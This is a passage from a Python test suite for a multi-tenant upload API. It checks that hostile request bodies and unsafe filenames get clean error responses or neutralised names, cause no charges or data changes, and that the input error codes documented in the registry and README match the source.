        )
        if response.status_code != status:
            return f"{label}: {response.status_code} {response.text[:300]}"
        document = response.json()
        if status == 413:  # API Gateway's own answer, before any Lambda, like its 401
            return None if document == {"message": "Request Entity Too Large"} else f"{label}: {document}"
        error = document.get("error") if isinstance(document, dict) else None
        if (
            set(document) != {"error"}
            or not isinstance(error, dict)
            or not {"code", "message"} <= set(error) <= {"code", "message", "details"}
        ):
            return f"{label}: not the error shape: {document}"
        if error["code"] != code or not clear_sentence(error["message"]):
            return f"{label}: {error}"
        return None

    with ThreadPoolExecutor(4) as pool:
        problems = [p for p in pool.map(send, HOSTILE_BODIES) if p]
    assert not problems, "\n".join(problems)

    for hostile, safe in NEUTRALISED_FILENAMES.items():
        created = tenant.api.request(
            "POST", "/v1/jobs", json={"filename": hostile, "content_type": "image/jpeg"}
        )
        fields = created["upload"]["fields"]
        assert fields["key"] == f"uploads/{tenant.tenant_id}/{created['job_id']}/{safe}", hostile
        assert created["job"]["filename"] == safe
        assert fields["Content-Type"] == "image/jpeg"
        tenant.api.request("DELETE", f"/v1/jobs/{created['job_id']}")

    assert tenant.api.request("GET", "/v1/jobs", params={"limit": 100})["items"] == jobs_before == []
    batches_after = tenant.api.request("GET", "/v1/batches", params={"limit": 100})["items"]
    assert [b["id"] for b in batches_after] == [b["id"] for b in batches_before] == [target["id"]]
    assert tenant.api.request("GET", "/v1/account")["tenant_name"] == name_before
    assert balance(tenant) == start
    with books.admin() as conn:
        kinds = [
            r["kind"]
            for r in conn.execute(
                "SELECT kind FROM ledger WHERE tenant_id = %s", (tenant.tenant_id,)
            ).fetchall()
        ]
    assert kinds == ["grant"]  # the welcome credits, nothing else
    # the neutralised jobs are hidden (deleted_at) but keep their rows: never uploaded, never charged
    audited = books.assert_balanced([tenant.tenant_id], allow_awaiting_upload=True)
    assert audited.jobs == Counter({"awaiting_upload": len(NEUTRALISED_FILENAMES)})
    TALLY.add(SECTION, "hostile API bodies", len(HOSTILE_BODIES) + len(NEUTRALISED_FILENAMES))
    TALLY.zero(SECTION, "5xx answers to hostile bodies")


# ---- 5. the documented input error codes ----------------------------------------------------------------------------

# The codes the manifest and size tests above produce besides the corpus's.
OTHER_CODES = {"empty_file", "file_too_large", "manifest_invalid", "not_in_manifest"}


def test_every_code_the_corpus_produces_is_documented() -> None:
    produced = {c.code for c in bad_input_corpus() if c.code} | OTHER_CODES
    assert produced <= set(INPUT_ERROR_CODES), sorted(produced - set(INPUT_ERROR_CODES))
    assert all(clear_sentence(meaning) for meaning in INPUT_ERROR_CODES.values())


def test_every_documented_code_is_raised_by_the_source() -> None:
    errors_py = ROOT / "functions" / "common" / "errors.py"
    source = ""
    for path in sorted((ROOT / "functions").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if path == errors_py:  # the registry itself does not count
            text = re.sub(r"INPUT_ERROR_CODES: dict\[str, str\] = \{.*?\n\}\n", "", text, flags=re.S)
        source += text
    missing = [code for code in INPUT_ERROR_CODES if f'"{code}"' not in source]
    assert missing == []


def test_the_readme_lists_exactly_the_documented_codes() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Input error codes", 1)[1].split("\n#", 1)[0]
    rows = re.findall(r"^\| `([a-z_]+)` \| (.+?) \|$", section, flags=re.M)
    assert [code for code, _ in rows] == list(INPUT_ERROR_CODES)
    flow = readme.split("## The flow and its guarantees", 1)[1].split("## Layout", 1)[0]
    assert "### Input error codes" in flow
